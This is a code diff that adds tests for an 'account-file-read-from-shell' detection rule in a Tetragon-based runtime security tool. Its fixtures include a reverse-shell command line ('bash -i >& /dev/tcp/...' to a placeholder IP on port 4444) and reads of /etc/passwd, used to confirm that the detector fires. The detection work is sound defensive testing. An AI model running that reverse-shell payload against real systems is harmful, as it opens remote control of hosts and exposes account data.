@@ -79,9 +79,14 @@ function connect(
   return run(event('process_connect', body), ancestors);
 }
 
-function fileEvent(process: TetragonProcess, fn: string, path: string) {
+function fileEvent(
+  process: TetragonProcess,
+  fn: string,
+  path: string,
+  ancestors: TetragonProcess[] = [],
+) {
   const body = { process, function_name: fn, args: [{ file_arg: { path } }] };
-  return run(event('process_kprobe', body));
+  return run(event('process_kprobe', body), ancestors);
 }
 
 const rules = (findings: Finding[]) => findings.map((f) => f.rule).sort();
@@ -194,6 +199,39 @@ describe('built-in rules', () => {
         fired(exec(proc('/usr/sbin/sshd', { stdio_sockets: sockets })), 'reverse-shell'),
         undefined,
       );
+    });
+  });
+
+  describe('account-file-read-from-shell', () => {
+    const sockets = [0, 1, 2].map((fd) => ({
+      fd,
+      family: 'AF_INET',
+      peer_address: '203.0.113.9',
+      peer_port: 4444,
+    }));
+    const java = proc('/usr/bin/java', { pid: 412 });
+    const payload = proc('/bin/bash', { arguments: '-c "bash -i >& /dev/tcp/203.0.113.9/4444"' });
+    const reverse = proc('/bin/bash', { arguments: '-i', stdio_sockets: sockets });
+    const read = (process: TetragonProcess, path: string, ancestors: TetragonProcess[]) =>
+      fired(fileEvent(process, '__x64_sys_read', path, ancestors), 'account-file-read-from-shell');
+
+    test('fires on what a reverse shell runs reading /etc/passwd, naming the shell', () => {
+      const found = read(proc('/usr/bin/cat'), '/etc/passwd', [reverse, payload, java])!;
+      assert.equal(found.severity, 'high');
+      assert.match(found.explanation, /^cat \(pid \d+, uid 0\) read \/etc\/passwd, .* below bash/);
+      assert.ok(read(proc('/usr/bin/id'), '/etc/group', [reverse, payload, java]), 'id too');
+    });
+
+    test('fires on a file reader run by a shell that a server runtime started', () => {
+      assert.ok(read(proc('/usr/bin/cat'), '/etc/passwd', [payload, java]));
+    });
+
+    test('does not fire on the shell itself, on a login shell, nor on other files', () => {
+      assert.equal(read(reverse, '/etc/passwd', [payload, java]), undefined, 'bash -i');
+      const login = proc('/bin/bash', { arguments: '-l' });
+      assert.equal(read(proc('/usr/bin/cat'), '/etc/passwd', [login]), undefined, 'a user');
+      assert.equal(read(proc('/usr/bin/id'), '/etc/passwd', [payload, java]), undefined, 'id');
+      assert.equal(read(proc('/usr/bin/cat'), '/etc/hosts', [reverse]), undefined, 'hosts');
     });
   });
 
